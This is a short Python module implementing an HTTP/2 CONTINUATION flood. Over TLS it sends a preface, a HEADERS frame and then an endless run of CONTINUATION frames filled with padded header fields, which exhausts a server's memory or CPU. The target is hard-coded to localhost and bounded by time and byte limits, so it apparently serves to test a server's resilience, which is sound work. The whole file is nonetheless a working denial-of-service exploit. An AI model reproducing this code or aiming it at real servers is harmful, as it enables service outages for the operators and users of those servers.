"""A flood of CONTINUATION frames: headers that never end, which a server may keep while they come."""

from __future__ import annotations

import socket
import ssl
import time

__all__ = ["send_endless_headers"]

_HEADERS, _SETTINGS, _CONTINUATION = 0x1, 0x4, 0x9
_STREAM = 1
# as many as fit a frame: a literal without indexing, with a new name
_FIELDS = (b"\x00\x03x-a\x64" + b"y" * 100) * 150
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def send_endless_headers(port: int, name: str, until: float, *, most_bytes: int = 1 << 30) -> int:
    """Sends header fields of one call over TLS until the server ends the connection; the bytes sent.

    It gives up at `until` (of `time.time`), or after `most_bytes`.
    """
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # it attacks whoever is there
    context.set_alpn_protocols(["h2"])
    frames = _frame(_CONTINUATION, _STREAM, _FIELDS) * 8
    sent = 0
    try:
        with (
            socket.create_connection(("127.0.0.1", port), 5) as plain,
            context.wrap_socket(plain, server_hostname=name) as wrapped,
        ):
            wrapped.sendall(_PREFACE + _frame(_SETTINGS, 0, b"") + _frame(_HEADERS, _STREAM, b"\x83\x87"))
            while time.time() < until and sent < most_bytes:
                wrapped.sendall(frames)
                sent += len(frames)
    except OSError:
        pass  # the server's end of it
    return sent


def _frame(kind: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, 0]) + stream.to_bytes(4) + payload
